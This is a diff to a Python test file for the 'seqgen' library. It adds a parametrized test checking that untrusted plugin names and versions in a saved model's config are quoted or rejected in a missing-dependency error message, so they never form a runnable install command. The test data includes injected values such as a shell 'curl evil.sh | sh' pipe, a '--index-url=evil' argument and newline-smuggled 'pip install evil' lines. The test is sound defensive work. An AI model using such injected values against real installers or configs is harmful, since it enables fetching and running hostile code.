@@ -12,6 +12,7 @@ import tracemalloc
 import numpy as np
 import pytest
 
+from seqgen import __version__
 from seqgen.backends.numpy.backend import NumpyBackend
 from seqgen.checkpoint import (
     ModelConfig,
@@ -255,6 +256,54 @@ def test_a_part_whose_plugin_is_not_installed_says_what_to_install(folder):
     assert str(error.value) == (
         'Model m:1 needs the tokenizer "abc" of seqgen-music 1.2, which is not installed.  pip install seqgen-music'
     )
+
+
+@pytest.mark.parametrize(
+    ("named", "sentence"),
+    [
+        (
+            {"distribution": "x; curl evil.sh | sh"},
+            'the tokenizer "abc" of "x; curl evil.sh | sh" 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"distribution": "--index-url=evil"},
+            'the tokenizer "abc" of "--index-url=evil" 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"distribution": "x" * 100},
+            f'the tokenizer "abc" of "{"x" * 80}..." 1.2, which is no name of a distribution, so that nothing can be installed.',
+        ),
+        (
+            {"name": 'abc".\n  pip install evil', "version": "1.  pip install evil"},
+            (
+                'the tokenizer "abc\\".\\n  pip install evil" of seqgen-music "1.  pip install evil", which is not installed.'
+                "  pip install seqgen-music"
+            ),
+        ),
+        (
+            {"distribution": "seqgen", "version": "9.0"},
+            f'the tokenizer "abc" of seqgen 9.0, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
+        ),
+        (
+            {"distribution": "SeqGen"},
+            f'the tokenizer "abc" of SeqGen 1.2, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
+        ),
+    ],
+)
+def test_what_a_stranger_says_of_a_plugin_becomes_no_command(folder, named, sentence):
+    config = json.loads((folder / CONFIG).read_text())
+    config["parts"]["tokenizer"] = {
+        "name": "abc",
+        "distribution": "seqgen-music",
+        "version": "1.2",
+        "options": {},
+        **named,
+    }
+    write_json(folder / CONFIG, config)
+    write_manifest(folder, {})
+    with pytest.raises(MissingDependencyError) as error:
+        SavedModel.open(folder, where="m:1").tokenizer(load_catalog())
+    assert str(error.value) == f"Model m:1 needs {sentence}"
 
 
 def test_a_part_whose_plugin_takes_long_to_be_imported_is_waited_for(folder):
